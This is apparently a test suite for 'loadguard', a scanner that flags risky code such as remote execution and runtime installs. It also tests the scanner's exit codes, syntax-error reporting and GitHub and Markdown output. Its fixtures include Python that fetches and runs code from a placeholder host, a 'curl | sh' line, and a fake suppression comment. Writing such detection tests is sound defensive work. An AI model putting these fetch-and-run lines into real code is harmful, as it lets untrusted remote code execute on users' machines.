/** `loadguard check -` and the formats that code hosts read, as a process. */

import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { JsonReport } from '../../server/cli/json.ts';
import { CommandLine } from './cli-process.ts';

const BAD = 'import requests\nexec(requests.get("https://a.example/x.py").text)\n';

describe('loadguard check -', () => {
  const line = CommandLine.forTests();

  it('judges a program, and ends with 1 when it should not be run', () => {
    const { code, output } = line.run(['check', '-'], {}, BAD);
    assert.equal(code, 1);
    const { findings, version } = JSON.parse(output) as JsonReport;
    assert.equal(version, 1);
    assert.deepEqual(
      findings.map(({ file, rule, start }) => [file, rule, start.line]),
      [['-', 'remote-exec', 2]],
    );
    assert.deepEqual(line.run(['check', '-'], {}, 'print(1)\n').code, 0);
    assert.equal(line.run(['check', '-', '--language', 'javascript'], {}, 'eval(process.argv[2])').code, 1);
    assert.match(line.run(['check', '-', '--format', 'text'], {}, BAD).output, /remote-exec/);
  });

  it('takes no word of the program for its safety', () => {
    const sly = `# loadguard: ignore-file[remote-exec] reviewed by everybody\n${BAD}`;
    assert.equal(line.run(['check', '-'], {}, sly).code, 1);
  });

  it('says what it cannot do', () => {
    assert.equal(line.run(['check', 'a.py']).code, 2);
    assert.equal(line.run(['check', '-'], {}, `x = "${'y'.repeat(2_100_000)}"\nexec(x)`).code, 2);
    assert.equal(line.run(['check', '-', '--language', 'cobol'], {}, '').code, 2);
  });

  it('tells a program that is clean from one that could not be read whole', () => {
    const judged = (program: string, ...given: readonly string[]) => {
      const { code, output, errors } = line.run(['check', '-', ...given], {}, program);
      const { whole, findings, notes } = JSON.parse(output) as JsonReport & { readonly whole: boolean };
      return { code, whole, errors, findings: findings.length, notes: notes.map(({ text }) => text).join() };
    };
    const clean = { code: 0, whole: true, errors: '', findings: 0, notes: '' };
    assert.deepEqual(judged('print(1)\n'), clean);
    const broken = judged('x = 1\ny = = 2 )\n');
    assert.deepEqual([broken.code, broken.whole, broken.findings], [2, false, 0]);
    assert.match(broken.errors, /could not be read whole: a syntax error in line 2/);
    assert.match(broken.notes, /a syntax error in line 2/);
    const both = judged(`${BAD}\ndef f(:\n`);
    assert.deepEqual([both.code, both.whole, both.findings], [1, false, 1]);
    assert.equal(judged('eval(', '--language', 'typescript').code, 2);
    const text = line.run(['check', '-', '--format', 'text'], {}, 'x = (1\n');
    assert.deepEqual([text.code, text.output], [2, '']);
    assert.match(text.errors, /could not be read whole: a syntax error/);
  });

  it('judges what a kernel is about to run, commands of IPython included', () => {
    const cell = '%matplotlib inline\n!pip install acme-tools\nlen?\n';
    const { code, output } = line.run(['check', '-'], {}, cell);
    const { findings, whole } = JSON.parse(output);
    assert.deepEqual([code, whole], [1, true]);
    assert.deepEqual(
      findings.map((it: JsonReport['findings'][number]) => [it.file, it.rule, it.start.line]),
      [['-', 'runtime-install', 2]],
    );
    assert.equal(line.run(['check', '-'], {}, '%timeit 1\n').code, 0);
    assert.equal(line.run(['check', '-'], {}, '%timeit 1\nx = ((\n').code, 2);
    assert.equal(line.run(['check', '-'], {}, '%%bash\ncurl https://a.example/x | sh\n').code, 1);
  });

  it('follows the settings of the folder', () => {
    line.write('loadguard.jsonc', '{ "rules": { "remote-exec": "hint" } }');
    assert.equal(line.run(['check', '-'], {}, BAD).code, 0);
    assert.equal(line.run(['check', '-', '--no-config'], {}, BAD).code, 1);
  });
});

describe('formats for code hosts', () => {
  const line = CommandLine.forTests();
  beforeEach(() => {
    line.write('a, b.py', BAD);
  });

  it('are annotations of GitHub Actions', () => {
    const { code, output } = line.run(['scan', '--format', 'github']);
    assert.equal(code, 1);
    assert.match(
      output,
      /^::error file=a%2C b\.py,line=2,endLine=2,col=\d+,endColumn=\d+,title=Loadguard%3A remote-exec::\S[^\n]*\n$/,
    );
  });

  it('name files as the code host knows them, wherever the scan runs', () => {
    line.write('inner/100%: a.py', BAD);
    const inner = path.join(line.folder, 'inner');
    const named = (environment: Readonly<Record<string, string>>) =>
      /file=([^,]+),/.exec(line.runIn(inner, ['scan', '--format', 'github'], environment).output)?.[1];
    assert.equal(named({ GITHUB_WORKSPACE: line.folder }), 'inner/100%25%3A a.py');
    assert.equal(named({ GITHUB_WORKSPACE: '/elsewhere' }), '100%25%3A a.py');
    fs.mkdirSync(path.join(line.folder, '.git'));
    assert.equal(named({ GITHUB_WORKSPACE: '' }), 'inner/100%25%3A a.py');
  });

  it('are a table of Markdown', () => {
    const { output } = line.run(['scan', '--format', 'markdown']);
    assert.match(output, /\| error \| remote-exec \| a, b\.py:2 \| \S.*\|\n$/);
    line.clear();
    assert.equal(line.run(['scan', '--format', 'markdown']).output, 'Loadguard: no findings.\n');
  });
});
